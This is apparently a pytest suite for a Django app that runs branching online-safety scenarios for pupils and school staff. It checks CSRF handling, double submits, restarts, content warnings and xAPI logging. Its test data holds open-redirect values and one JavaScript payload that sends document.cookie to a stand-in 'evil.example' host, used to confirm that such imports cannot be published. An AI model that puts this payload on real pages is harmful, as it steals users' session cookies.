"""Playing a scenario: PRG forms, the JS fragment, safety against repeats, pinning, replay,
content warnings, and the statements every move records."""

import re

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse

from scenarios.engine import Choice, Node
from scenarios.models import ScenarioAttempt, ScenarioChoiceRecord
from scenarios.services import scenario_attempt_start, scenario_save_graph
from tests.scenarios.helpers import published_scenario
from tests.unit.scenarios.test_engine import small_graph, warned_node
from xapi.models import Statement

pytestmark = pytest.mark.django_db


@pytest.fixture
def scenario():
    return published_scenario()


def _start(client, scenario, *, fetch=False, **extra):
    headers = {"HTTP_X_REQUESTED_WITH": "fetch"} if fetch else {}
    return client.post(reverse("scenarios:start", args=[scenario.uuid]), extra, **headers)


def _choose(client, attempt, *, node, step, choice, fetch=False):
    headers = {"HTTP_X_REQUESTED_WITH": "fetch"} if fetch else {}
    return client.post(
        reverse("scenarios:choose", args=[attempt.uuid]),
        {"node": node, "step": step, "choice": choice},
        **headers,
    )


def _attempt(pupil, scenario):
    return ScenarioAttempt.objects.get(learner=pupil, scenario=scenario)


def test_the_player_page_offers_a_start_button(client, pupil, scenario):
    client.force_login(pupil)
    html = client.get(reverse("scenarios:play", args=[scenario.uuid])).content.decode()
    assert "Start the scenario" in html


def test_a_staff_scenario_is_not_found_for_a_pupil_and_nothing_is_recorded(client, pupil):
    scenario = published_scenario(title="Lock it down", audience="staff")
    client.force_login(pupil)
    assert client.get(reverse("scenarios:play", args=[scenario.uuid])).status_code == 404
    assert _start(client, scenario).status_code == 404
    assert _start(client, scenario, fetch=True).status_code == 404
    assert not ScenarioAttempt.objects.filter(scenario=scenario).exists()
    assert not Statement.objects.filter(learner=pupil).exists()


@pytest.mark.parametrize("person", ["teacher", "safeguarding_lead", "editor"])
def test_staff_and_editors_play_staff_scenarios_and_staff_try_pupils_ones(client, request, person):
    user = request.getfixturevalue(person)
    client.force_login(user)
    for audience in ("staff", "pupils"):
        scenario = published_scenario(title=f"For {audience}", audience=audience)
        page = client.get(reverse("scenarios:play", args=[scenario.uuid]))
        assert "Start the scenario" in page.content.decode()
        assert _start(client, scenario).status_code == 302
        assert ScenarioAttempt.objects.filter(learner=user, scenario=scenario).exists()


def test_without_javascript_a_choice_is_post_redirect_get_with_feedback_and_path(
    client, pupil, scenario
):
    client.force_login(pupil)
    response = _start(client, scenario)
    assert response.status_code == 302
    attempt = _attempt(pupil, scenario)
    response = _choose(client, attempt, node="start", step=0, choice="report")
    assert response.status_code == 302
    assert response["Location"].endswith(f"#scenario-{scenario.uuid}")
    html = client.get(response["Location"].split("#")[0]).content.decode()
    assert "Good call." in html  # feedback
    assert "You reported it." in html  # the new node
    assert "Your path so far" in html and "Report it" in html


@pytest.mark.parametrize(
    "return_to",
    ["https://evil.example/", "//evil.example/page/", "/\\evil.example/", "javascript:alert(1)"],
)
def test_a_choice_returns_only_to_a_page_on_this_site(client, pupil, scenario, return_to):
    client.force_login(pupil)
    _start(client, scenario, return_to="/a/module/page/?tab=2")
    attempt = _attempt(pupil, scenario)
    home = reverse("scenarios:play", args=[scenario.uuid])
    response = client.post(
        reverse("scenarios:choose", args=[attempt.uuid]),
        {"node": "start", "step": 0, "choice": "report", "return_to": return_to},
    )
    assert response.status_code == 302
    assert response["Location"] == f"{home}#scenario-{scenario.uuid}"


def test_a_choice_returns_to_the_page_the_player_is_on(client, pupil, scenario):
    client.force_login(pupil)
    response = _start(client, scenario, return_to="/a/module/page/?tab=2")
    assert response["Location"] == f"/a/module/page/?tab=2#scenario-{scenario.uuid}"


def test_with_javascript_the_answer_is_the_player_fragment(client, pupil, scenario):
    client.force_login(pupil)
    _start(client, scenario)
    attempt = _attempt(pupil, scenario)
    response = _choose(client, attempt, node="start", step=0, choice="report", fetch=True)
    html = response.content.decode()
    assert response.status_code == 200
    assert response["Content-Type"] == "text/html; charset=utf-8"
    assert html.lstrip().startswith("<section")
    # The path so far, with its dash, in UTF-8.
    assert "\u2014" in html
    assert "<html" not in html
    assert "Good call." in html


def _form_token(html: str) -> str:
    return re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', html).group(1)


def _page_opened(learner, scenario) -> tuple[Client, str]:
    """A client that checks CSRF as a browser's requests are checked, signed in as
    `learner`, after opening the scenario's page (whose HTML is returned)."""
    client = Client(enforce_csrf_checks=True)
    client.force_login(learner)
    page = client.get(reverse("scenarios:play", args=[scenario.uuid])).content.decode()
    return client, page


def test_the_fragments_forms_carry_the_token_the_choice_was_sent_with(pupil, scenario):
    client, page = _page_opened(pupil, scenario)
    token = _form_token(page)
    response = _start(client, scenario, fetch=True, csrfmiddlewaretoken=token)
    assert response.status_code == 200
    fragment = response.content.decode()
    assert _form_token(fragment) == token
    # No fresh CSRF cookie on every step.
    assert settings.CSRF_COOKIE_NAME not in response.cookies
    # A made-up token is still refused, before anything is applied.
    attempt = _attempt(pupil, scenario)
    choose = reverse("scenarios:choose", args=[attempt.uuid])
    move = {"node": "start", "step": 0, "choice": "report"}
    response = client.post(
        choose, {"csrfmiddlewaretoken": "a" * 64, **move}, HTTP_X_REQUESTED_WITH="fetch"
    )
    assert response.status_code == 403
    attempt.refresh_from_db()
    assert attempt.step == 0
    # The fragment's forms work: the choice is accepted with their token.
    response = client.post(
        choose,
        {"csrfmiddlewaretoken": _form_token(fragment), **move},
        HTTP_X_REQUESTED_WITH="fetch",
    )
    assert response.status_code == 200
    assert "Good call." in response.content.decode()
    attempt.refresh_from_db()
    assert attempt.step == 1


def test_a_bare_csrf_secret_sent_as_the_token_is_never_echoed(pupil, scenario):
    client, _page = _page_opened(pupil, scenario)
    secret = client.cookies[settings.CSRF_COOKIE_NAME].value
    response = _start(client, scenario, fetch=True, csrfmiddlewaretoken=secret)
    assert response.status_code == 200
    fragment = response.content.decode()
    assert secret not in fragment
    attempt = _attempt(pupil, scenario)
    response = client.post(
        reverse("scenarios:choose", args=[attempt.uuid]),
        {"csrfmiddlewaretoken": _form_token(fragment), "node": "start", "step": 0},
        HTTP_X_REQUESTED_WITH="fetch",
    )
    assert response.status_code == 200


def test_a_double_submit_is_applied_once_and_the_second_gets_a_clear_message(
    client, pupil, scenario
):
    client.force_login(pupil)
    _start(client, scenario)
    attempt = _attempt(pupil, scenario)
    _choose(client, attempt, node="start", step=0, choice="report")
    response = _choose(client, attempt, node="start", step=0, choice="report", fetch=True)
    assert response.status_code == 200
    assert "already moved on from" in response.content.decode()
    attempt.refresh_from_db()
    assert attempt.step == 1
    assert attempt.state["score"] == 2
    assert ScenarioChoiceRecord.objects.filter(attempt=attempt).count() == 1


def test_a_stale_tab_cannot_choose_from_a_node_already_left(client, pupil, scenario):
    client.force_login(pupil)
    _start(client, scenario)
    attempt = _attempt(pupil, scenario)
    _choose(client, attempt, node="start", step=0, choice="share")
    # The other tab still shows the start node and picks the other option.
    response = _choose(client, attempt, node="start", step=0, choice="report")
    assert response.status_code == 302
    attempt.refresh_from_db()
    assert attempt.state["node_id"] == "shared"
    follow = client.get(response["Location"].split("#")[0]).content.decode()
    assert "already moved on from" in follow


def test_without_javascript_a_refused_move_is_explained_in_the_player_it_leads_back_to(
    client, pupil, scenario
):
    """The redirect opens the page at the player (#scenario-<uuid>), far down a long module
    on a phone: the reason nothing changed is said there, in the player's status region and
    focused on load, not only at the top of the page, out of sight and unannounced."""
    client.force_login(pupil)
    _start(client, scenario)
    attempt = _attempt(pupil, scenario)
    _choose(client, attempt, node="start", step=0, choice="share")
    response = _choose(client, attempt, node="start", step=0, choice="report")
    assert response["Location"].endswith(f"#scenario-{scenario.uuid}")
    html = client.get(response["Location"].split("#")[0]).content.decode()
    player = re.search(rf'<section[^>]* id="scenario-{scenario.uuid}".*?</section>', html, re.S)
    live = re.search(r'<div class="scenario-player__live".*?</div>', player.group(0), re.S)
    assert "already moved on from" in live.group(0)
    assert "data-focus-on-load" in live.group(0)
    assert html.count("already moved on from") == 1


def test_a_choice_not_offered_on_this_node_is_refused_without_a_500(client, pupil, scenario):
    client.force_login(pupil)
    _start(client, scenario)
    attempt = _attempt(pupil, scenario)
    response = _choose(client, attempt, node="start", step=0, choice="oops", fetch=True)
    assert response.status_code == 200
    assert "Please pick one of the options offered." in response.content.decode()
    attempt.refresh_from_db()
    assert attempt.step == 0


def test_garbage_step_and_missing_choice_get_a_message_not_a_500(client, pupil, scenario):
    client.force_login(pupil)
    _start(client, scenario)
    attempt = _attempt(pupil, scenario)
    url = reverse("scenarios:choose", args=[attempt.uuid])
    assert client.post(url, {"node": "start", "step": "x", "choice": "report"}).status_code == 302
    assert client.post(url, {"node": "start", "step": "0"}).status_code == 302
    attempt.refresh_from_db()
    assert attempt.step == 0


def test_someone_else_cannot_play_my_attempt(client, pupil, teacher, scenario):
    attempt = scenario_attempt_start(learner=pupil, scenario=scenario)
    client.force_login(teacher)
    assert _choose(client, attempt, node="start", step=0, choice="report").status_code == 404


def test_an_attempt_resumes_where_the_learner_left_off(client, pupil, scenario):
    client.force_login(pupil)
    _start(client, scenario)
    attempt = _attempt(pupil, scenario)
    _choose(client, attempt, node="start", step=0, choice="share")
    _start(client, scenario)  # starting again resumes
    assert ScenarioAttempt.objects.filter(learner=pupil).count() == 1
    html = client.get(reverse("scenarios:play", args=[scenario.uuid])).content.decode()
    assert "It spread." in html


def test_an_attempt_keeps_the_revision_it_started_on(client, pupil, scenario):
    client.force_login(pupil)
    _start(client, scenario)
    attempt = _attempt(pupil, scenario)
    # The author renames the `share` choice's target node and republishes.
    changed = small_graph(
        nodes={
            "start": Node("start", "New start", choices=(Choice("report", "Report it", "good"),)),
            "reported": None,
            "shared": None,
            "mixed": None,
            "poor": None,
        }
    )
    scenario_save_graph(scenario=scenario, graph=changed, publish=True)
    _choose(client, attempt, node="start", step=0, choice="share")
    attempt.refresh_from_db()
    assert attempt.state["node_id"] == "shared"
    # A new attempt uses the new revision.
    _start(client, scenario, restart="1")
    newest = ScenarioAttempt.objects.filter(learner=pupil).order_by("-pk").first()
    assert newest.revision_id != attempt.revision_id


@pytest.mark.parametrize(
    ("nation", "shown", "not_shown"),
    [
        ("wales", "Designated Safeguarding Person", "Designated Safeguarding Lead"),
        ("england", "Designated Safeguarding Lead", "Designated Safeguarding Person"),
    ],
)
@pytest.mark.parametrize("fetch", [False, True])
def test_a_staff_ending_names_the_safeguarding_role_as_the_school_does(
    client, teacher, school, nation, shown, not_shown, fetch
):
    school.nation = nation
    school.save()
    scenario = published_scenario(title="A post about you", audience="staff")
    client.force_login(teacher)
    _start(client, scenario)
    attempt = _attempt(teacher, scenario)
    _choose(client, attempt, node="start", step=0, choice="report")
    response = _choose(client, attempt, node="reported", step=1, choice="tell", fetch=fetch)
    if not fetch:
        response = client.get(reverse("scenarios:play", args=[scenario.uuid]))
    html = response.content.decode()
    assert "Ending: a good outcome" in html
    assert f"Tell your {shown} and your line manager." in html
    assert not_shown not in html


def test_reaching_an_ending_shows_the_debrief_and_signposting_and_allows_replay(
    client, pupil, scenario
):
    client.force_login(pupil)
    _start(client, scenario)
    attempt = _attempt(pupil, scenario)
    _choose(client, attempt, node="start", step=0, choice="report")
    response = _choose(client, attempt, node="reported", step=1, choice="tell", fetch=True)
    html = response.content.decode()
    assert "Ending: a good outcome" in html
    assert "You helped." in html  # debrief
    assert "Childline" in html and "CEOP" in html
    assert "Play again" in html
    attempt.refresh_from_db()
    assert attempt.outcome == "good" and attempt.finished_at
    _start(client, scenario, restart="1")
    assert ScenarioAttempt.objects.filter(learner=pupil).count() == 2


def _restart(client, scenario, attempt, *, fetch=False):
    return _start(client, scenario, fetch=fetch, restart="1", restart_from=str(attempt.uuid))


def _newest(learner):
    return ScenarioAttempt.objects.filter(learner=learner).order_by("-started_at", "-pk").first()


@pytest.mark.parametrize("fetch", [False, True])
def test_a_learner_part_way_through_can_start_again_from_the_beginning(
    client, pupil, scenario, fetch
):
    client.force_login(pupil)
    page = reverse("scenarios:play", args=[scenario.uuid])
    _start(client, scenario)
    # Nothing chosen yet: there is nothing to start again from.
    assert "Start again from the beginning" not in client.get(page).content.decode()
    first = _attempt(pupil, scenario)
    response = _choose(client, first, node="start", step=0, choice="report", fetch=fetch)
    html = response.content.decode() if fetch else client.get(page).content.decode()
    assert "Start again from the beginning" in html
    assert f'name="restart_from" value="{first.uuid}"' in html

    response = _restart(client, scenario, first, fetch=fetch)
    html = response.content.decode() if fetch else client.get(page).content.decode()
    newest = _newest(pupil)
    assert newest.pk != first.pk
    assert newest.state["node_id"] == "start" and newest.step == 0
    assert "Your path so far" not in html and "Start again from the beginning" not in html
    # The attempt left behind keeps what the learner chose, and its statement.
    first.refresh_from_db()
    assert first.step == 1 and not first.finished_at
    assert ScenarioChoiceRecord.objects.filter(attempt=first).count() == 1
    # The new attempt plays on as usual.
    _choose(client, newest, node="start", step=0, choice="share")
    newest.refresh_from_db()
    assert newest.state["node_id"] == "shared"


@pytest.mark.parametrize("fetch", [False, True])
def test_starting_again_twice_from_one_attempt_starts_once(client, pupil, scenario, fetch):
    """A double click on Play again, or a second tab still showing the old attempt: the
    second request finds the attempt already started again, says so, and loses nothing."""
    client.force_login(pupil)
    _start(client, scenario)
    first = _attempt(pupil, scenario)
    _choose(client, first, node="start", step=0, choice="report")
    _choose(client, first, node="reported", step=1, choice="tell")
    _restart(client, scenario, first)
    second = _newest(pupil)
    _choose(client, second, node="start", step=0, choice="share")

    response = _restart(client, scenario, first, fetch=fetch)
    if fetch:
        html = response.content.decode()
    else:
        assert response.status_code == 302
        html = client.get(response["Location"]).content.decode()
    assert "You have already started this scenario again" in html
    assert ScenarioAttempt.objects.filter(learner=pupil).count() == 2
    second.refresh_from_db()
    assert second.step == 1 and second.state["node_id"] == "shared"
    # What is shown is where the learner is now, ready to carry on.
    assert 'name="step" value="1"' in html and f"/attempts/{second.uuid}/choose/" in html


def test_a_tampered_restart_starts_nothing(client, pupil, scenario, teacher):
    client.force_login(pupil)
    _start(client, scenario)
    mine = _attempt(pupil, scenario)
    others = scenario_attempt_start(learner=teacher, scenario=scenario)
    for named in ("not-an-attempt", str(others.uuid)):
        response = _start(client, scenario, fetch=True, restart="1", restart_from=named)
        assert response.status_code == 200
        assert "You have already started this scenario again" in response.content.decode()
    assert list(ScenarioAttempt.objects.filter(learner=pupil)) == [mine]
    assert ScenarioAttempt.objects.filter(learner=teacher).count() == 1


def test_staff_scenarios_signpost_posh(client, teacher):
    scenario = published_scenario(audience="staff")
    attempt = scenario_attempt_start(learner=teacher, scenario=scenario)
    client.force_login(teacher)
    _choose(client, attempt, node="start", step=0, choice="share")
    html = _choose(client, attempt, node="shared", step=1, choice="oops", fetch=True)
    text = html.content.decode()
    assert "Professionals Online Safety Helpline" in text
    # The helpline's number and address can be tapped.
    assert '<a href="tel:03443814772">0344 381 4772</a>' in text
    assert 'href="mailto:helpline@saferinternet.org.uk"' in text


def test_a_content_warning_can_be_skipped_without_penalty(client, pupil):
    scenario = published_scenario(small_graph(nodes={"shared": warned_node()}))
    client.force_login(pupil)
    _start(client, scenario)
    attempt = _attempt(pupil, scenario)
    html = _choose(client, attempt, node="start", step=0, choice="share", fetch=True).content
    assert b"Content warning:" in html and b"Skip this part" in html
    response = client.post(
        reverse("scenarios:skip", args=[attempt.uuid]),
        {"node": "shared", "step": 1},
        HTTP_X_REQUESTED_WITH="fetch",
    )
    assert b"You skipped that part." in response.content
    attempt.refresh_from_db()
    assert attempt.state["score"] == -1  # only the earlier choice counts
    assert attempt.outcome == "mixed"


def test_an_ending_with_a_content_warning_shows_it_before_its_text(client, pupil):
    from scenarios.engine import Outcome

    ending = Node(
        "poor",
        "The video reaches the teacher's family.",
        outcome=Outcome.POOR,
        debrief="Sharing spreads harm.",
        content_warning="Describes someone being upset.",
    )
    scenario = published_scenario(small_graph(nodes={"poor": ending}))
    client.force_login(pupil)
    _start(client, scenario)
    attempt = _attempt(pupil, scenario)
    _choose(client, attempt, node="start", step=0, choice="share")
    html = _choose(client, attempt, node="shared", step=1, choice="oops", fetch=True)
    text = html.content.decode()
    warning = text.index("Describes someone being upset.")
    # The ending's own text waits behind "Show this part"; the debrief and help do not.
    assert (
        warning
        < text.index("<summary>Show this part</summary>")
        < text.index("reaches the teacher")
    )
    assert text.index("</details>") < text.index("Sharing spreads harm.")
    assert "Where to get help" in text


def test_an_unpublished_scenario_cannot_be_started(client, pupil):
    from scenarios.models import Scenario

    draft = scenario_save_graph(scenario=Scenario(title="Draft"), graph=small_graph())
    client.force_login(pupil)
    response = _start(client, draft)
    assert response.status_code == 302
    assert not ScenarioAttempt.objects.exists()


def test_every_choice_and_ending_is_recorded_as_a_statement(client, pupil, scenario):
    from xapi.identity import activity_iri
    from xapi.models import Statement

    client.force_login(pupil)
    _start(client, scenario)
    attempt = _attempt(pupil, scenario)
    _choose(client, attempt, node="start", step=0, choice="share")
    _choose(client, attempt, node="shared", step=1, choice="oops")
    _choose(client, attempt, node="shared", step=1, choice="oops")  # a repeat records nothing
    statements = Statement.objects.filter(
        object_iri=activity_iri("scenario", scenario.uuid)
    ).order_by("stored", "pk")
    assert [s.verb_iri.rsplit("/", 1)[-1] for s in statements] == ["chose", "chose", "completed"]
    data = statements[1].data
    assert data["actor"]["account"]["name"] == str(pupil.learner_id)
    extensions = data["result"]["extensions"]
    path = next(v for k, v in extensions.items() if k.endswith("/path"))
    assert path == ["start:share", "shared:oops"]
    assert data["result"]["score"]["raw"] == -1
    assert data["result"]["duration"].startswith("PT")
    ending = statements[2].data
    assert ending["result"]["completion"] is True
    assert "poor" in ending["result"]["extensions"].values()


def test_a_twine_story_with_a_script_for_media_cannot_be_published(client, editor, pupil):
    """A story shared from elsewhere can carry `@media: javascript:...`: the draft shows the
    problem beside its node and is not published; a web link is offered to the learner."""
    from django.core.exceptions import ValidationError

    from scenarios.models import Scenario
    from scenarios.services import scenario_import_twee

    story = (
        ":: Start\n@media: javascript:fetch('//evil.example/?'+document.cookie)\n"
        "A post.\n[[Report->End]]\n\n:: End [ending-good]\n@debrief: Well done.\nDone.\n"
    )
    scenario = scenario_import_twee(text=story, user=editor)
    assert [(p.node_id, p.code) for p in scenario.problems()] == [("Start", "media_not_a_link")]
    with pytest.raises(ValidationError):
        scenario.latest_revision.publish()
    fixed = story.replace(
        "javascript:fetch('//evil.example/?'+document.cookie)", "https://v.example/a"
    )
    scenario = scenario_import_twee(text=fixed, user=editor)
    scenario.latest_revision.publish()
    scenario = Scenario.objects.get(pk=scenario.pk)
    client.force_login(pupil)
    _start(client, scenario)
    html = client.get(reverse("scenarios:play", args=[scenario.uuid])).content.decode()
    assert 'href="https://v.example/a"' in html


@pytest.mark.parametrize("fetch", [False, True])
def test_a_tab_left_on_an_attempt_started_again_elsewhere_cannot_carry_it_on(
    client, pupil, scenario, fetch
):
    """One tab starts again; another still shows the attempt left behind. A choice sent
    from that tab is stale: it changes and records nothing, says so, and shows where the
    learner is now."""
    client.force_login(pupil)
    _start(client, scenario)
    first = _attempt(pupil, scenario)
    _choose(client, first, node="start", step=0, choice="report")
    _restart(client, scenario, first)
    newest = _newest(pupil)
    statements = Statement.objects.filter(learner=pupil).count()

    response = _choose(client, first, node="reported", step=1, choice="tell", fetch=fetch)
    if fetch:
        assert response.status_code == 200
        html = response.content.decode()
    else:
        assert response.status_code == 302
        html = client.get(response["Location"].split("#")[0]).content.decode()
    assert "You have started this scenario again" in html
    first.refresh_from_db()
    assert first.step == 1 and not first.finished_at
    assert ScenarioChoiceRecord.objects.filter(attempt=first).count() == 1
    assert Statement.objects.filter(learner=pupil).count() == statements
    # What is shown is the attempt the learner is on now, at its start.
    assert f"/attempts/{newest.uuid}/choose/" in html and 'name="step" value="0"' in html


def test_time_on_a_node_resumed_in_a_later_sign_in_counts_from_that_sign_in(
    client, pupil, scenario
):
    """A pupil who reached a node last week, was signed out, and makes the choice today spent
    minutes on it, not a week: the statement's result.duration starts at the sign-in."""
    from datetime import timedelta

    from django.utils import timezone

    client.force_login(pupil)
    _start(client, scenario)
    attempt = _attempt(pupil, scenario)
    ScenarioAttempt.objects.filter(pk=attempt.pk).update(
        node_entered_at=timezone.now() - timedelta(days=7)
    )
    client.logout()
    client.force_login(pupil)  # signs in again today
    _choose(client, attempt, node="start", step=0, choice="share")
    chose = Statement.objects.get(learner=pupil)
    assert chose.data["result"]["duration"].startswith("PT")
    assert "H" not in chose.data["result"]["duration"]


def test_a_choice_left_without_an_id_at_a_node_with_a_long_id_can_be_made(client, pupil):
    """The admin lets a node id be 60 characters and a choice id be left blank; the ids its
    choices then get must still fit where moves are recorded (60 characters), or the
    record keeps a cut-off id (PostgreSQL) that two choices share."""
    from scenarios.models import Scenario

    long_id = "n" * 60
    scenario = Scenario(title="Long ids", start_node=long_id, live=False)
    scenario.nodes = [
        (
            "node",
            {
                "node_id": long_id,
                "text": "What do you do?",
                "choices": [
                    {"choice_id": "", "label": "Tell someone", "target": "end"},
                    {"choice_id": "", "label": "Ignore it", "target": "end"},
                ],
            },
        ),
        ("node", {"node_id": "end", "text": "Done.", "outcome": "good", "debrief": "Well done."}),
    ]
    scenario.save()
    scenario.save_revision().publish()
    scenario.refresh_from_db()
    choice, other = scenario.graph().node(long_id).choices
    assert len(choice.id) <= 60
    assert choice.id != other.id
    client.force_login(pupil)
    _start(client, scenario)
    attempt = _attempt(pupil, scenario)
    response = _choose(client, attempt, node=long_id, step=0, choice=choice.id)
    assert response.status_code == 302
    assert ScenarioChoiceRecord.objects.get(attempt=attempt).choice_id == choice.id


def test_a_warned_part_whose_choices_are_all_hidden_says_skipping_is_the_way_on(client, pupil):
    """Its choices' conditions hide them all on this path, so only the skip leads on: the
    learner who shows the part is told so, not given an empty "What do you do?"."""
    from scenarios.engine import Condition, Op

    reported = Node(
        "reported",
        "You reported it.",
        choices=(
            Choice("tell", "Tell a teacher", "good"),
            Choice("look", "Look at it again", "shared"),
        ),
    )
    shared = warned_node(
        choices=(Choice("oops", "Oh no", "poor", conditions=(Condition("reported", Op.EQ, True),)),)
    )
    scenario = published_scenario(small_graph(nodes={"reported": reported, "shared": shared}))
    assert scenario.live
    client.force_login(pupil)
    _start(client, scenario)
    attempt = _attempt(pupil, scenario)
    text = _choose(client, attempt, node="start", step=0, choice="share", fetch=True).text
    assert "Skip this part (no penalty)" in text
    assert "What do you do?" not in text
    assert "<fieldset>" not in text
    assert "There is nothing to choose here. Skip this part to go on." in text


# As in production, no transaction around the request: a step's write ends its own on error.
@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("fetch", [False, True])
def test_a_choice_whose_write_took_too_long_says_so_and_can_be_made_again(
    client, pupil, scenario, settings, fetch
):
    """A write that outlasts XAPI_CONSISTENT_THROUGH_MARGIN_SECONDS stores nothing (docs/xapi.md):
    the learner is told the choice was not saved, not shown a server error, and the attempt
    is still at the step, so the same choice can be made again."""
    client.force_login(pupil)
    _start(client, scenario)
    attempt = _attempt(pupil, scenario)
    settings.XAPI_CONSISTENT_THROUGH_MARGIN_SECONDS = 0  # every write now takes too long
    response = _choose(client, attempt, node="start", step=0, choice="report", fetch=fetch)
    assert response.status_code == 503
    assert "was not saved" in response.content.decode()
    assert not ScenarioChoiceRecord.objects.filter(attempt=attempt).exists()

    settings.XAPI_CONSISTENT_THROUGH_MARGIN_SECONDS = 120
    response = _choose(client, attempt, node="start", step=0, choice="report", fetch=fetch)
    assert response.status_code in (200, 302)
    assert ScenarioChoiceRecord.objects.filter(attempt=attempt).count() == 1


def test_a_choice_sent_without_javascript_after_the_scenario_was_unpublished_leads_back_to_it(
    client, pupil, teacher, scenario
):
    """An editor takes the scenario off the site while a pupil is playing it on its own
    page. Their attempt keeps the revision it started on, so their next choice is kept, and
    the page it leads back to shows it, not a bare "Page not found"; starting again is
    refused, and said so there. Someone who never started it still finds no page."""
    client.force_login(pupil)
    play = reverse("scenarios:play", args=[scenario.uuid])
    _start(client, scenario, return_to=play)
    attempt = _attempt(pupil, scenario)
    scenario.unpublish()
    response = client.post(
        reverse("scenarios:choose", args=[attempt.uuid]),
        {"node": "start", "step": 0, "choice": "report", "return_to": play},
        follow=True,
    )
    html = response.content.decode()
    assert response.status_code == 200
    assert "Good call." in html and "You reported it." in html
    response = _start(client, scenario, return_to=play, restart="1", restart_from=str(attempt.uuid))
    html = client.get(response["Location"].split("#")[0]).content.decode()
    assert "This scenario is not available yet." in html
    assert "You reported it." in html
    assert ScenarioAttempt.objects.filter(scenario=scenario).count() == 1
    other = Client()
    other.force_login(teacher)
    assert other.get(play).status_code == 404


def _restart_forms(html, scenario) -> int:
    """The forms in `html` that start the scenario again (sent to its start address with
    `restart`)."""
    start = re.escape(reverse("scenarios:start", args=[scenario.uuid]))
    forms = re.findall(rf'<form[^>]*action="{start}"[^>]*>(.*?)</form>', html, re.S)
    return sum(1 for form in forms if 'name="restart"' in form)


@pytest.mark.parametrize("finished", [False, True])
def test_an_unpublished_scenario_offers_no_restart_and_a_stale_one_keeps_the_path(
    client, pupil, scenario, finished
):
    """Taken off the site, a scenario cannot be started again: the player does not offer a
    button that can only be refused. A restart sent from a page shown before (JavaScript)
    is refused in a player that still shows where the learner is, not the start screen."""
    client.force_login(pupil)
    play = reverse("scenarios:play", args=[scenario.uuid])
    _start(client, scenario, return_to=play)
    attempt = _attempt(pupil, scenario)
    _choose(client, attempt, node="start", step=0, choice="report")
    if finished:
        _choose(client, attempt, node="reported", step=1, choice="tell")
    assert _restart_forms(client.get(play).content.decode(), scenario) == 1
    scenario.unpublish()
    html = client.get(play).content.decode()
    assert "You reported it." in html
    assert _restart_forms(html, scenario) == 0

    response = _restart(client, scenario, attempt, fetch=True)
    html = response.content.decode()
    assert html.count("This scenario is not available yet.") == 1
    assert "You reported it." in html  # the path so far, still shown
    assert ScenarioAttempt.objects.filter(scenario=scenario).count() == 1


def _title_heading(html, scenario) -> str:
    """The player's heading element, as rendered."""
    return re.search(rf'<h2[^>]*id="scenario-{scenario.uuid}-title"[^>]*>', html).group(0)


def test_on_the_scenarios_own_page_its_title_is_shown_once_after_each_move(client, pupil, scenario):
    """The page's own heading is the scenario's title, so the player's heading is for
    screen readers only; the player swapped in by JavaScript keeps it so (the title is not
    shown a second time under the first), while inside a module the player shows it."""
    client.force_login(pupil)
    play = reverse("scenarios:play", args=[scenario.uuid])
    assert "visually-hidden" in _title_heading(client.get(play).content.decode(), scenario)
    response = _start(client, scenario, fetch=True, return_to=play)
    assert "visually-hidden" in _title_heading(response.content.decode(), scenario)
    attempt = _attempt(pupil, scenario)
    response = client.post(
        reverse("scenarios:choose", args=[attempt.uuid]),
        {"node": "start", "step": 0, "choice": "report", "return_to": play},
        HTTP_X_REQUESTED_WITH="fetch",
    )
    assert "visually-hidden" in _title_heading(response.content.decode(), scenario)
    # On another page (a module's), the player's heading is the scenario's title, shown.
    response = _start(client, scenario, fetch=True, return_to="/")
    assert "visually-hidden" not in _title_heading(response.content.decode(), scenario)


def _path_items(html: str) -> list[str]:
    """The entries of the player's "Your path so far" list, tags and spacing dropped."""
    listing = re.search(r'<details class="scenario-path".*?<ol>(.*?)</ol>', html, re.S).group(1)
    return [
        " ".join(re.sub(r"<[^>]+>", "", item).split())
        for item in re.findall(r"<li>(.*?)</li>", listing, re.S)
    ]


def test_a_part_without_a_title_is_named_in_the_path_by_whole_words(client, pupil):
    """Before, the path showed the part's first 60 characters, cut mid-word ("a group cha")."""
    start = Node(
        "start",
        "A friend in your class shows you a screenshot of a group chat where someone is "
        "being mocked.",
        choices=small_graph().node("start").choices,
    )
    scenario = published_scenario(small_graph(nodes={"start": start}))
    client.force_login(pupil)
    _start(client, scenario)
    html = _choose(
        client, _attempt(pupil, scenario), node="start", step=0, choice="report", fetch=True
    ).content.decode()
    assert _path_items(html) == [
        "A friend in your class shows you a screenshot of a group… — Report it"
    ]


def test_a_part_skipped_for_its_content_warning_is_not_retold_in_the_path(client, pupil):
    """Before, the path so far (open at the ending) named the skipped part by the opening of
    the very text the learner chose not to read."""
    warned = warned_node(text="Someone posts a cruel edit of your classmate's photo.")
    scenario = published_scenario(small_graph(nodes={"shared": warned}))
    client.force_login(pupil)
    _start(client, scenario)
    attempt = _attempt(pupil, scenario)
    _choose(client, attempt, node="start", step=0, choice="share")
    html = client.post(
        reverse("scenarios:skip", args=[attempt.uuid]),
        {"node": "shared", "step": 1},
        HTTP_X_REQUESTED_WITH="fetch",
    ).content.decode()
    assert "Ending: a mixed outcome" in html
    assert _path_items(html) == [
        "A friend shows you a post. — Share it",
        "Content warning: Mentions bullying. — Skipped this part",
    ]
    assert "cruel edit of your classmate" not in html


def test_an_ending_offers_its_picture_or_video_link(client, pupil):
    """Before, a media address set on an ending was shown in the preview but never to the
    learner who reached it."""
    from scenarios.engine import Outcome

    ending = Node(
        "good",
        "Well done.",
        outcome=Outcome.GOOD,
        debrief="You helped.",
        media="https://media.example.org/what-happened-next",
    )
    scenario = published_scenario(small_graph(nodes={"good": ending}))
    client.force_login(pupil)
    _start(client, scenario)
    attempt = _attempt(pupil, scenario)
    _choose(client, attempt, node="start", step=0, choice="report")
    html = _choose(client, attempt, node="reported", step=1, choice="tell", fetch=True)
    text = html.content.decode()
    assert "Ending: a good outcome" in text
    link = '<a href="https://media.example.org/what-happened-next" rel="noopener">'
    assert text.index(link) < text.index("What to take away")
